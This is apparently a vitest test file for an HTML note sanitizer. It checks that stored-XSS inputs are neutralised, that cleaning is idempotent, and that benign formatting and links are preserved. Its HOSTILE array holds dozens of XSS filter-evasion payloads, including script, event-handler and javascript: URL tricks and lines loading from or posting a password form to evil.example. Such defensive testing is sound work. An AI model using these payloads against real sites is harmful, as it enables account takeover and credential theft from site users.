import { describe, expect, test } from 'vitest';
import { sanitizeNote } from './sanitize';

/** Known ways to smuggle a script, from the OWASP filter-evasion list and published bypasses. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  '<a href="https://a.example" style="position:fixed">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<b><!--<img src="--><img src=x onerror=alert(1)>//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '"><script>alert(1)</script>',
  '<b onfocus=alert(1) autofocus tabindex=0>x',
];

const TAG = /<\/?([a-z][^\s/>]*)([^>]*)>/gi;
const ALLOWED = new Set('p br b strong i em u s ul ol li a blockquote'.split(' '));

/** Everything in a clean note that a browser would take for more than text. */
function suspicious(html: string): string[] {
  return [...html.matchAll(TAG)].flatMap(([whole, name = '', attributes = '']) => {
    const link =
      /^ href="(?:(?:https?:\/\/|mailto:|tel:)[^"]*)?" rel="noopener noreferrer nofollow"$/;
    const plain = attributes.replace(/\s*\/$/, '') === '';
    const fine =
      ALLOWED.has(name.toLowerCase()) && (plain || (name === 'a' && link.test(attributes)));
    return fine || (name === 'a' && attributes === ' rel="noopener noreferrer nofollow"')
      ? []
      : [whole];
  });
}

describe('a note', () => {
  test.each(HOSTILE)('stored XSS does not survive (GHSA-x7hp-f23m-66mj): %s', (html) => {
    const clean = sanitizeNote(html);
    expect(suspicious(clean)).toEqual([]);
    expect(clean).not.toMatch(/<script|<style|<img|<svg/i);
  });

  test.each([...HOSTILE, '<p>a &amp; b &lt; c</p>', 'a < b > c & d', '<ul><li>x</li></ul>'])(
    'cleaned twice is the same: %s',
    (html) => {
      const once = sanitizeNote(html);
      expect(sanitizeNote(once)).toBe(once);
    },
  );

  test('keeps what people write: paragraphs, lists, emphasis, links, Arabic', () => {
    const html = '<p>مهتم <strong>جدا</strong></p><ul><li>a<br />b</li></ul>';
    expect(sanitizeNote(html)).toBe(html);
    expect(sanitizeNote('<a href="tel:+201004471823">call</a>')).toBe(
      '<a href="tel:+201004471823" rel="noopener noreferrer nofollow">call</a>',
    );
  });
});
